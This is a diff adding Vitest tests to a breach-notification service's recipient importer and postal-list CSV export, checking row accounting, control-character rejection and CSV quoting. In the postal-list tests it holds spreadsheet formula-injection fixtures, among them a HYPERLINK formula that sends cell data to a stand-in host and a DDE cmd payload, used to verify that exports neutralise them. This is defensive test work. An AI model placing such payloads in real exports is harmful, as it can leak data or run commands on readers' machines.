@@ -2,10 +2,13 @@
 import { Readable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import fc from 'fast-check';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
 import { checkTemplates, NoticeRenderer, renderNotice, TemplateInvalid } from '../activities/notices';
-import { importRecipients } from '../activities/recipients';
-import { openStore, type Store } from '../activities/store';
+import { importRecipients, postalListCsv } from '../activities/recipients';
+import { openStore, type PostalRow, type Store } from '../activities/store';
 import type { CampaignNotice } from '../workflows/definitions';
+import { InvalidInput } from '../workflows/domain/facts';
 
 let store: Store;
 beforeAll(async () => {
@@ -73,6 +76,118 @@ describe('recipient import', () => {
     expect(claimed.map((c) => c.person_id).sort()).toEqual(['p1', 'p2']); // both lost financial data or credentials
     const postal = await store.postalList('breach-import');
     expect(postal.map((p) => [p.person_id, p.reason, p.postal_address])).toEqual([['p4', 'postal', '東京都千代田区1-1']]);
+  });
+});
+
+const HEADER = 'id,name,email,postal_address,locale,data_categories\n';
+const person = (i: number) => `p${i},Person ${i},p${i}@example.test,,en,name;email\n`;
+const people = (n: number, replace: Record<number, string> = {}) => HEADER + Array.from({ length: n }, (_, i) => replace[i] ?? person(i)).join('');
+const countOf = async (breachId: string) => (await store.recipientCounts(breachId)).total;
+
+describe('imports that lose nothing', () => {
+  it('reports a NUL in a cell as an invalid row by its line, past the first batch, and imports every other row', async () => {
+    const report = await importRecipients(store, 'breach-nul', Readable.from([people(1500, { 1200: 'p1200,Eve\u0000,eve@example.test,,en,name\n' })]), 'csv');
+    expect(report).toMatchObject({ rows: 1500, imported: 1499, merged: 0, invalid: 1 });
+    expect(report.errors).toEqual([{ line: 1202, reason: 'name: control character U+0000 at offset 3 is not allowed' }]);
+    expect(await countOf('breach-nul')).toBe(1499);
+
+    const jsonl = [JSON.stringify({ id: 'j1', name: 'Ann', email: 'ann@example.test' }), JSON.stringify({ id: 'j2', name: 'Bo', postalAddress: '1 Main St\u0000' }), JSON.stringify({ id: 'j3', name: 'Cy\u202Eab', email: 'cy@example.test' })].join('\n');
+    const fromJsonl = await importRecipients(store, 'breach-nul-jsonl', Readable.from([jsonl]), 'jsonl');
+    expect(fromJsonl).toMatchObject({ rows: 3, imported: 1, invalid: 2 });
+    expect(fromJsonl.errors.map((e) => [e.line, e.reason])).toEqual([
+      [2, 'postalAddress: control character U+0000 at offset 9 is not allowed'],
+      [3, 'name: bidirectional override U+202E at offset 2 is not allowed'],
+    ]);
+  });
+
+  it('refuses a CSV whose quote never closes, naming the line it opens on, and keeps nothing of it', async () => {
+    const error = await importRecipients(store, 'breach-quote', Readable.from([people(100, { 10: 'p10,"Person 10,p10@example.test,,en,name\n' })]), 'csv').catch((e) => e);
+    expect(error).toBeInstanceOf(InvalidInput);
+    expect((error as InvalidInput).errors).toEqual([{ field: 'line 12', message: expect.stringMatching(/quote.*never closed/) }]);
+    expect(await countOf('breach-quote')).toBe(0);
+  });
+
+  it('refuses a quote that closes rows later on a stray quote, rather than swallow the rows between', async () => {
+    const text = people(20, { 3: 'p3,"Person 3,p3@example.test,,en,name\n', 9: 'p9,Person" 9,p9@example.test,,en,name\n' });
+    const error = await importRecipients(store, 'breach-stray', Readable.from([text]), 'csv').catch((e) => e);
+    expect(error).toBeInstanceOf(InvalidInput);
+    expect((error as InvalidInput).errors[0]!.field).toBe('line 5');
+    expect(await countOf('breach-stray')).toBe(0);
+  });
+
+  it('reports a row by the line it starts on, even one that spans lines, and takes a quote inside a bare cell as written', async () => {
+    const text = people(6, { 1: 'p1,"Two\nLines",p1@example.test,,en,name\n', 2: 'p2,Too,many,fields,en,name,extra\n', 3: 'p3,Dwayne "The Rock" J,p3@example.test,,en,name\n' });
+    const report = await importRecipients(store, 'breach-span', Readable.from([text]), 'csv');
+    expect(report).toMatchObject({ rows: 6, imported: 4, invalid: 2 });
+    expect(report.errors).toEqual([
+      { line: 3, reason: 'name: must be one line: no line breaks or tabs' },
+      { line: 5, reason: 'has 7 cells where the header has 6' },
+    ]);
+    const { rows } = await store.sql.query<{ name: string }>("SELECT name FROM recipient WHERE breach_id = 'breach-span' AND person_id = 'p3'");
+    expect(rows[0]!.name).toBe('Dwayne "The Rock" J');
+  });
+
+  it('accounts for every row it reads, whatever the cells hold: imported, merged or reported', async () => {
+    const cell = fc.oneof(fc.string({ maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 12 }), fc.constantFrom('\u0000', '=1+1', '"', '\r\n', 'x\u202Ey'));
+    let run = 0;
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.tuple(fc.integer({ min: 0, max: 20 }), cell, fc.option(cell), fc.boolean()), { minLength: 1, maxLength: 30 }), async (rows) => {
+        const breachId = `breach-prop-${run++}`;
+        const csv = stringify(rows.map(([id, name, address, email]) => [`p${id}`, name, email ? `p${id}@example.test` : '', address ?? '', 'en', 'name']), {
+          header: true,
+          columns: ['id', 'name', 'email', 'postal_address', 'locale', 'data_categories'],
+        });
+        const report = await importRecipients(store, breachId, Readable.from([csv]), 'csv');
+        expect(report.rows).toBe(rows.length);
+        expect(report.imported + report.merged + report.invalid).toBe(rows.length);
+        expect(report.errors).toHaveLength(report.invalid);
+        expect(await countOf(breachId)).toBe(report.imported);
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
+
+describe('the postal list', () => {
+  const hostile = {
+    name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    postalAddress: '+81 3 @SUM(1+1)*cmd|\' /C calc\'!A0',
+  };
+
+  it('neutralises cells a spreadsheet would run as formulas, and keeps them otherwise intact', async () => {
+    const jsonl = [JSON.stringify({ id: '-2+3', ...hostile, locale: 'en' }), JSON.stringify({ id: 'plain', name: 'Plain Person', postalAddress: '1 Main St', locale: 'en' })].join('\n');
+    expect((await importRecipients(store, 'breach-formula', Readable.from([jsonl]), 'jsonl')).imported).toBe(2);
+    await store.planDeliveries('campaign-formula', 'breach-formula', 10);
+    const csv = postalListCsv(await store.postalList('breach-formula'));
+    const cells = parseCsv(csv, { columns: true }) as Record<string, string>[];
+    expect(cells[0]).toMatchObject({ person_id: "'-2+3", name: `'${hostile.name}`, postal_address: `'${hostile.postalAddress}` });
+    expect(cells[1]).toMatchObject({ person_id: 'plain', name: 'Plain Person', postal_address: '1 Main St' });
+
+    const bounced: PostalRow = { campaign_id: 'c', person_id: 'b', name: '@evil', postal_address: '\t=cmd', locale: 'en', reason: 'bounced', smtp_response: '\r=1+1' };
+    const [row] = parseCsv(postalListCsv([bounced]), { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({ name: "'@evil", postal_address: "'\t=cmd", smtp_response: "'\r=1+1" });
+  });
+
+  it('holds only people with a postal address, and counts those it cannot hold', async () => {
+    const jsonl = [
+      JSON.stringify({ id: 'mail-only', name: 'Mail Only', email: 'gone@example.test' }),
+      JSON.stringify({ id: 'both', name: 'Both Ways', email: 'both@example.test', postalAddress: '2 Main St' }),
+      JSON.stringify({ id: 'post-only', name: 'Post Only', postalAddress: '3 Main St' }),
+    ].join('\n');
+    await importRecipients(store, 'breach-unreachable', Readable.from([jsonl]), 'jsonl');
+    await store.planDeliveries('campaign-unreachable', 'breach-unreachable', 10);
+    await store.settleDeliveries('campaign-unreachable', [
+      { personId: 'mail-only', status: 'bounced', messageId: '<m1@example.test>', smtpResponse: '550 no such user' },
+      { personId: 'both', status: 'bounced', messageId: '<m2@example.test>', smtpResponse: '550 no such user' },
+    ]);
+    const postal = await store.postalList('breach-unreachable');
+    expect(postal.map((p) => [p.person_id, p.reason])).toEqual([
+      ['both', 'bounced'],
+      ['post-only', 'postal'],
+    ]);
+    expect(postal.every((p) => p.postal_address)).toBe(true);
+    expect(await store.unreachable('breach-unreachable')).toEqual({ noPostalAddress: 1 });
+    expect(await store.unreachable('breach-import')).toEqual({ noPostalAddress: 0 });
   });
 });
 
